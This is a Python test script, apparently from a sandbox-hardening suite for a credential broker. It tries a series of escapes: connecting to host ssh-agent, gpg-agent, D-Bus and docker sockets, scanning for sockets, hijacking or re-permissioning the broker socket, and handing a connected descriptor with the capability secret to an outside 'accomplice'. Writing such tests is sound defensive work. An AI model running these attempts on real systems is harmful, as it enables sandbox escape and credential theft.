"""Connects to everything that listens, and tampers with the own socket."""

import array
import contextlib
import os
import re
import socket
import subprocess
import sys

from attempts import OUT, among, attempt, steal, told

SOCKET = os.environ["CREDBROKER_SOCKET"]
SANDBOX = os.path.dirname(SOCKET)


def talk(address, family=socket.AF_UNIX):
    with socket.socket(family, socket.SOCK_STREAM) as client:
        client.settimeout(3)
        client.connect(address)
        with contextlib.suppress(TimeoutError, ConnectionError):
            client.sendall(b"hello\n")
            steal(f"said by {address}", client.recv(4096))
        return "connected"


for _name in ("an ssh-agent of the host", "a gpg-agent of the host", "a session bus", "a socket in /run", "the control socket",
              "another sandbox's socket", "the socket of a sandbox that has ended"):  # fmt: skip

    def _connect(name=_name):
        return talk(told()["sockets"][name])

    attempt(f"connect to {_name}")(_connect)


@attempt("connect to what usually listens on a host")
def usual():
    found = set()
    uid = os.getuid()
    for path in (
        "/run/dbus/system_bus_socket", "/var/run/dbus/system_bus_socket", f"/run/user/{uid}/bus", "/run/user/1000/bus",
        f"/run/user/{uid}/gnupg/S.gpg-agent", "/run/docker.sock", "/var/run/docker.sock", "/run/podman/podman.sock",
        "/run/containerd/containerd.sock", "/run/systemd/private", "/run/systemd/notify", "/run/systemd/journal/socket",
        "/tmp/.X11-unix/X0", f"/run/user/{uid}/wayland-0", "/run/credbroker/control.sock", "/dev/log",
    ):  # fmt: skip
        try:
            os.stat(path)
            found.add(path)
        except OSError:
            continue
    return among(found)


@attempt("names of D-Bus and agents in the environment")
def agents():
    return among(
        name for name in os.environ if re.search("DBUS|SSH_|GPG|AGENT|XAUTH|DISPLAY|XDG|NOTIFY|LISTEN|DOCKER", name)
    )


@attempt("connect to an abstract socket of the host")
def abstract():
    return talk("\0" + told()["abstract"])


@attempt("connect to a service on the host's loopback address")
def loopback():
    return talk(tuple(told()["loopback"]), socket.AF_INET)


@attempt("any other socket that is seen in the file system")
def strays():
    import stat

    found = set()
    for at, directories, files in os.walk("/"):
        directories[:] = [name for name in directories if at != "/" or name not in ("proc", "sys", "usr")]
        for name in files:
            path = os.path.join(at, name)
            try:
                if stat.S_ISSOCK(os.lstat(path).st_mode) and path not in (SOCKET, f"{OUT}/accomplice"):
                    found.add(path)
            except OSError:
                continue
    return among(found)


@attempt("unlink the socket")
def unlink():
    os.unlink(SOCKET)
    return "done"


@attempt("rename the socket")
def rename():
    os.rename(SOCKET, SOCKET + ".old")
    return "done"


@attempt("put a socket of one's own in its place")
def replace():
    with socket.socket(socket.AF_UNIX) as fake:
        fake.bind(f"{SANDBOX}/fake")
        os.rename(f"{SANDBOX}/fake", SOCKET)
    return "done"


@attempt("put a link beside the socket")
def link():
    os.symlink("/etc/passwd", f"{SANDBOX}/link")
    return "done"


@attempt("change the socket's mode")
def chmod():
    os.chmod(SOCKET, 0o666)
    return "done"


@attempt("give the socket to another user")
def chown():
    os.chown(SOCKET, 4242, 4242)
    return "done"


@attempt("change the mode of the socket's directory")
def chmod_directory():
    os.chmod(SANDBOX, 0o777)
    return "done"


def helper(*arguments, **more):
    return [sys.executable, "-B", os.path.join(os.path.dirname(__file__), "descriptor.py"), *arguments]


@attempt("hand a connected descriptor to another process")
def descriptor():
    # It connects itself, too; as another uid where the sandbox has several.
    with socket.socket(socket.AF_UNIX) as connected:
        connected.connect(SOCKET)
        ours, theirs = socket.socketpair()
        with ours, theirs:
            command = helper(str(theirs.fileno()))
            process = subprocess.Popen(command, pass_fds=[theirs.fileno()], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
            ours.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [connected.fileno()]))])
            said, error = process.communicate(timeout=30)
    if process.returncode:
        raise RuntimeError(error.decode()[-200:])
    return said.decode().strip()


@attempt("hand a connected descriptor out of the sandbox")
def hand_out():
    # An accomplice on the host listens in a directory that both have. It uses what it is given with what it is told.
    with socket.socket(socket.AF_UNIX) as connected, socket.socket(socket.AF_UNIX) as accomplice:
        connected.connect(SOCKET)
        accomplice.settimeout(20)
        accomplice.connect(f"{OUT}/accomplice")
        rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [connected.fileno()]))]
        accomplice.sendmsg([os.environ["CREDBROKER_CAPABILITY"].encode()], rights)
        return accomplice.recv(200).decode()
